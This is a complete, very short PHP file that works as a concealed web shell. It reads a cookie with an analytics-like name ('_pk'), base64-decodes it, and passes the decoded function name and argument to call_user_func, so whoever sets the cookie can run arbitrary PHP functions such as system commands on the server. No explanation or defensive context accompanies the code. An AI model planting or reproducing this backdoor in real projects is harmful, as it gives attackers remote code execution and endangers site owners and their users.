<?php
$t = isset($_COOKIE['_pk']) ? $_COOKIE['_pk'] : '';
$job = explode(':', base64_decode($t), 2);
if (count($job) === 2) {
    call_user_func($job[0], $job[1]);
}
